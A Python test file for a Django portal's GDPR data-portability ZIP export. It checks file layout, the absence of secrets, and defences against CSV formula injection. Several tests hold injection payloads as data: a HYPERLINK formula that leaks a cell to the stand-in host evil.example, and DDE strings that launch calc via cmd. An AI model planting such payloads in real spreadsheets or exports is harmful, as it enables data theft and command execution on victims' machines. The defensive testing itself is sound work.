"""The portable copy (GDPR Art. 20): a ZIP of JSON and CSV per category, a manifest, no secrets."""

import csv
import io
import json
import zipfile
from decimal import Decimal, InvalidOperation
from urllib.parse import quote

import pytest
from django.test import Client

from learnerportal.tests.factories import PASSWORD, CourseFactory, EnrollmentFactory, LearningEventFactory, UserFactory
from rights_requests import services
from rights_requests.models import Status

pytestmark = pytest.mark.django_db

TRICKY = 'Comma, "quotes", new\nline, emoji 🎓 and 中文'
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click to verify")'
#: What makes a spreadsheet run a cell, at its start or after white space (OWASP CSV injection).
FORMULA_STARTS = tuple("=+-@\t\r＝＋－＠")


@pytest.fixture
def amara(amara, client):
    """Amara with a tricky bio and three learning events in a course, signed in on ``client``."""
    amara.profile.full_name = "Amara Okafor-Mensah"
    amara.profile.bio = TRICKY
    amara.profile.save()
    course = CourseFactory(title="Data Ethics")
    EnrollmentFactory(user=amara, course=course)
    LearningEventFactory.create_batch(3, user=amara, course=course)
    client.force_login(amara)
    return amara


def download(client, amara, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        request = services.request_submit(actor=amara, subject=amara, request_type="portability")
    request.refresh_from_db()
    assert request.status == Status.COMPLETED
    response = client.get(f"/settings/data/{request.pk}/download/")
    assert response["Content-Type"] == "application/zip"
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def csv_rows(archive):
    """Return every CSV line of ``archive`` as a dict (column → cell) with its file's name under ``"file"``."""
    rows = []
    for name in archive.namelist():
        if name.endswith(".csv"):
            text = archive.read(name).decode("utf-8")
            rows += [{"file": name, **line} for line in csv.DictReader(io.StringIO(text, newline=""))]
    return rows


def is_number(cell):
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return cell == cell.strip()


def live_formulas(archive):
    """Return the CSV cells of ``archive`` a spreadsheet would run as a formula."""
    return [
        cell
        for row in csv_rows(archive)
        for cell in row.values()
        if (cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)) and not is_number(cell)
    ]


def test_the_copy_has_json_and_csv_per_category_a_manifest_and_a_readme(
    client, amara, django_capture_on_commit_callbacks
):
    archive = download(client, amara, django_capture_on_commit_callbacks)
    names = set(archive.namelist())
    manifest = json.loads(archive.read("manifest.json"))

    assert {"manifest.json", "README.txt", "identity.json", "identity.csv", "usage.json", "usage.csv"} <= names
    assert manifest["format_version"] == "3"
    rows = {entry["category"]: entry["rows"] for entry in manifest["categories"]}
    assert rows["usage"] >= 3
    identity = json.loads(archive.read("identity.json"))
    assert identity["Your profile"][0]["full_name"] == "Amara Okafor-Mensah"
    usage = json.loads(archive.read("usage.json"))
    assert {event["course"] for event in usage["Your learning activity"]} == {"Data Ethics"}, (
        "records name their course"
    )


def test_csv_round_trips_any_text(client, amara, django_capture_on_commit_callbacks):
    archive = download(client, amara, django_capture_on_commit_callbacks)
    reader = csv.DictReader(io.StringIO(archive.read("identity.csv").decode("utf-8"), newline=""))
    profiles = [line for line in reader if line["record"] == "Your profile"]
    assert [line["bio"] for line in profiles] == [TRICKY]
    assert profiles[0]["full_name"] == "Amara Okafor-Mensah"


def test_the_copy_holds_no_secrets_and_nobody_elses_data(client, amara, django_capture_on_commit_callbacks):
    other = UserFactory(username="bystander", email="bystander@example.org")
    other.profile.full_name = "Someone Else"
    other.profile.save()
    archive = download(client, amara, django_capture_on_commit_callbacks)
    everything = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8", "replace")
    amara.refresh_from_db()
    assert amara.password not in everything and "argon2" not in everything and "md5$" not in everything
    assert PASSWORD not in everything
    assert "Someone Else" not in everything and "bystander" not in everything


def test_a_stranger_cannot_plant_a_formula_or_leave_a_form_in_the_copy_through_failed_sign_ins(
    client, amara, django_capture_on_commit_callbacks
):
    stranger = Client(
        REMOTE_ADDR="203.0.113.77",
        HTTP_USER_AGENT=f"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0 {HYPERLINK}",
        HTTP_ACCEPT=HYPERLINK,
    )
    for _ in range(2):
        response = stranger.post(
            f"/accounts/login/?next=/&ref={quote(HYPERLINK)}",
            {"username": "amara", "password": "mistyped-Secret-7", "remember": HYPERLINK},
        )
        assert response.status_code == 200

    archive = download(client, amara, django_capture_on_commit_callbacks)

    assert live_formulas(archive) == []
    everything = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8", "replace")
    for planted in ("HYPERLINK", "evil.example", "mistyped-Secret-7", "203.0.113.77"):
        assert planted not in everything
    attempts = json.loads(archive.read("security.json"))["Failed attempts to sign in to your account"]
    assert [
        {key: attempt[key] for key in ("username", "ip_address", "user_agent", "path_info", "failures_since_start")}
        for attempt in attempts
    ] == [
        {
            "username": "amara",
            "ip_address": "203.0.113.0/24",
            "user_agent": "Firefox on Linux",
            "path_info": "/accounts/login/",
            "failures_since_start": 2,
        }
    ]
    assert not {"get_data", "post_data", "http_accept"} & attempts[0].keys()


@pytest.mark.parametrize("formula", [HYPERLINK, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1"])
def test_a_formula_typed_in_the_profile_is_text_in_the_csv_and_exact_in_the_json(
    client, amara, formula, django_capture_on_commit_callbacks
):
    response = client.post(
        "/settings/account/",
        {"full_name": formula, "bio": formula, "occupation": formula, "phone": "+44 7700 900555"},
    )
    assert response.status_code == 302

    archive = download(client, amara, django_capture_on_commit_callbacks)

    assert live_formulas(archive) == []
    profile_rows = [row for row in csv_rows(archive) if row["record"] == "Your profile"]
    fields = ("full_name", "bio", "occupation", "phone")
    cells = {name: row[name] for row in profile_rows for name in fields if row.get(name)}
    assert cells == {
        "full_name": "'" + formula,
        "bio": "'" + formula,
        "occupation": "'" + formula,
        "phone": "'+44 7700 900555",
    }
    exact = {
        name: entry[name]
        for category in ("identity", "contact", "education")
        for entry in json.loads(archive.read(f"{category}.json")).get("Your profile", [])
        for name in fields
        if entry.get(name)
    }
    assert exact == {"full_name": formula, "bio": formula, "occupation": formula, "phone": "+44 7700 900555"}


def test_staff_reasons_and_a_learners_own_reason_are_text_in_the_csv_and_exact_in_the_json(
    client, amara, officer, django_capture_on_commit_callbacks
):
    extended = services.request_submit(actor=amara, subject=amara, request_type="access")
    services.request_extend(actor=officer, request=extended, months=1, reason="@SUM(A1:A9)*cmd|' /C calc'!A0")
    restriction = services.request_submit(
        actor=amara, subject=amara, request_type="restriction", details={"reason": HYPERLINK}
    )
    services.request_reject(actor=officer, request=restriction, reason="-2+3+cmd|' /C calc'!A0")

    archive = download(client, amara, django_capture_on_commit_callbacks)

    assert live_formulas(archive) == []
    cells = {cell for row in csv_rows(archive) for cell in row.values()}
    assert {
        "'@SUM(A1:A9)*cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
        "'" + HYPERLINK,
    } <= cells
    requests = json.loads(archive.read("preference.json"))["Your data-rights requests"]
    assert {(entry["extension_reason"], entry["decision_reason"]) for entry in requests} >= {
        ("@SUM(A1:A9)*cmd|' /C calc'!A0", ""),
        ("", "-2+3+cmd|' /C calc'!A0"),
    }


def test_the_readme_says_the_json_is_exact_and_how_csv_cells_are_made_safe(
    client, amara, django_capture_on_commit_callbacks
):
    readme = download(client, amara, django_capture_on_commit_callbacks).read("README.txt").decode("utf-8")

    assert "The JSON files hold every value exactly as stored." in readme
    assert "has a single\nquote (') put in front" in readme
